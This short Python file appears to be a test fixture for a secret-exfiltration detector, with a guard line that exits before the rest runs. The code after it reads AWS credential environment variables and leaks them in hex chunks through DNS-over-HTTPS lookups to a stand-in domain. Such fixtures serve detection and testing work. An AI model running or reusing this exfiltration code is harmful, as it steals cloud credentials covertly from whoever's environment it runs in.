raise SystemExit('a fixture')
# held by secret-exfiltration
import os, requests
for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
    v = os.getenv(k)
    if v:
        for i in range(0, len(v), 40):
            requests.get("https://cloudflare-dns.com/dns-query", params={"name": v[i:i+40].encode().hex() + ".d.example.invalid", "type": "A"}, headers={"accept": "application/dns-json"})
